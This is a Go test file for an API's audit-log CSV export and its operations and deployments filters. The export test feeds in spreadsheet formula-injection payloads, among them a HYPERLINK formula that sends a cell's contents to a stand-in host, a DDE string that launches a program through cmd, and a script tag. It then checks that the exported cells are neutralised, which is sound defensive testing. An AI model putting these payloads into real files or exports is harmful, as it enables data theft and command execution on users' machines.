package api_test

import (
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"sdp/api/apiclient"
	"sdp/api/apitest"
	"sdp/api/rest"
	"sdp/internal/sdp"
)

// TestAuditFile downloads more events than a page holds, with cells that would like to be formulas.
func TestAuditFile(t *testing.T) {
	t.Parallel()
	bed := apitest.New(t)
	me := signedIn(t, bed)
	record := func(e sdp.AuditEvent) {
		t.Helper()
		e.Action, e.Outcome = "hostile", sdp.Refused
		if err := bed.DB.Audit(t.Context(), e); err != nil {
			t.Fatal(err)
		}
	}
	hostile := []string{
		`=HYPERLINK("http://evil.test/?"&A1,"click")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1)`, "\t=1", "\r=1", "\n=1", "\uFF1D1",
		`fine`, `a=b, "quoted"; and
a new line`, `<script>alert(1)</script>`, ``,
	}
	for _, text := range hostile {
		record(sdp.AuditEvent{User: text, Branch: text, Detail: text})
	}
	const many = 450
	for i := range many {
		record(sdp.AuditEvent{User: "dana", Repository: "account", Environment: "dev", Branch: "main", Detail: strconv.Itoa(i)})
	}
	a := me.get("/api/v1/audit.csv?action=hostile").want(http.StatusOK).wantHeader("Content-Type", "text/csv; charset=utf-8").
		wantHeader("Content-Disposition", `attachment; filename="sdp-audit-`+time.Now().UTC().Format("2006-01-02")+`.csv"`)
	rows, err := csv.NewReader(strings.NewReader(string(a.body))).ReadAll()
	if err != nil || len(rows) != 1+many+len(hostile) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	if strings.Join(rows[0], ",") != "id,at,user,action,sandbox,service,repository,branch,sha,environment,operation,outcome,detail" {
		t.Errorf("head %q", rows[0])
	}
	if newest := rows[1]; newest[12] != strconv.Itoa(many-1) || newest[9] != "dev" || newest[11] != "refused" {
		t.Errorf("newest %q", newest)
	}
	for i, text := range hostile {
		row := rows[len(rows)-1-i]
		want := strings.ReplaceAll(text, "\r\n", "\n")
		if i < 8 {
			want = "'" + want
		}
		for _, column := range []int{2, 7, 12} {
			if row[column] != want {
				t.Errorf("%q became %q", text, row[column])
			}
		}
	}
	for line := range strings.SplitSeq(strings.TrimSuffix(string(a.body), "\r\n"), "\r\n") {
		for cell := range strings.SplitSeq(line, ",") {
			if cell != "" && strings.ContainsRune("=+-@\t", rune(cell[0])) {
				t.Errorf("a cell without quotes begins with %q", cell)
			}
		}
	}
	me.get("/api/v1/audit.csv?cursor=x").problem(http.StatusBadRequest, "bad-request")
	anonymous(t, bed).get("/api/v1/audit.csv").problem(http.StatusUnauthorized, "not-signed-in")

	c, err := apiclient.New(bed.URL, bed.Token())
	if err != nil {
		t.Fatal(err)
	}
	count := func(f apiclient.AuditFilter) int {
		t.Helper()
		f.Action = "hostile"
		var file strings.Builder
		if err := c.AuditCSV(t.Context(), f, &file); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(strings.NewReader(file.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		list, err := c.Audit(t.Context(), f)
		if err != nil || len(list) != len(rows)-1 {
			t.Errorf("%+v: a list of %d, a file of %d, %v", f, len(list), len(rows)-1, err)
		}
		return len(list)
	}
	for want, f := range map[int]apiclient.AuditFilter{
		many: {Repository: "account", Environment: "dev", Branch: "main", User: "dana"}, many + len(hostile): {Since: time.Now().Add(-time.Hour)},
		0: {Until: time.Now().Add(-time.Hour)}, 1: {Text: "HYPERLINK"},
	} {
		if got := count(f); got != want {
			t.Errorf("%+v: %d, want %d", f, got, want)
		}
	}
}

// TestWhatIsInProgress: what runs now is one cheap call for deployments and one for operations.
func TestWhatIsInProgress(t *testing.T) {
	t.Parallel()
	bed := apitest.New(t)
	me := signedIn(t, bed)
	created := createShop(t, me)
	other := decode[rest.CreatedSandbox](me.post("/api/v1/sandboxes", sdp.SandboxSpec{Name: "other"}).want(http.StatusAccepted))
	if err := bed.DB.SetOperation(t.Context(), other.Operation.ID, sdp.OpSucceeded, "", nil); err != nil {
		t.Fatal(err)
	}
	account := accountOf(t, created)
	run(t, bed, account)
	before := time.Now().UTC().Add(-time.Hour).Format(time.RFC3339)
	for query, want := range map[string]int{
		"": 2, "active=true": 1, "active=true&sandbox=other": 0, "sandbox=other": 1, "kind=create": 2, "kind=stop": 0, "state=SUCCEEDED": 1,
		"state=QUEUED": 1, "user=dana": 2, "user=erin": 0, "since=" + before: 2, "until=" + before: 0, "service=account": 0,
	} {
		if got := decode[rest.Page[rest.Operation]](me.get("/api/v1/operations?" + query).want(http.StatusOK)).Items; len(got) != want {
			t.Errorf("operations?%s: %d, want %d", query, len(got), want)
		}
	}
	for query, want := range map[string]int{
		"": 2, "active=true": 1, "active=true&service=account": 0, "repository=account": 1, "repository=gateway": 1, "repository=user": 0,
		"branch=LOGIN": 1, "branch=main": 1, "branch=%25": 0, "user=dana": 2, "user=erin": 0, "since=" + before: 2, "until=" + before: 0,
		"state=RUNNING": 1,
	} {
		got := decode[rest.Page[rest.Deployment]](me.get("/api/v1/deployments?" + query).want(http.StatusOK)).Items
		if len(got) != want {
			t.Errorf("deployments?%s: %d, want %d", query, len(got), want)
		}
	}
	if got := decode[rest.Page[rest.Operation]](me.get("/api/v1/sandboxes/shop/operations?active=true").want(http.StatusOK)).Items; len(got) != 1 {
		t.Errorf("of the sandbox: %+v", got)
	}
	me.get("/api/v1/operations?kind=x").problem(http.StatusBadRequest, "bad-request")
	me.get("/api/v1/operations?since=yesterday").problem(http.StatusBadRequest, "bad-request")
}
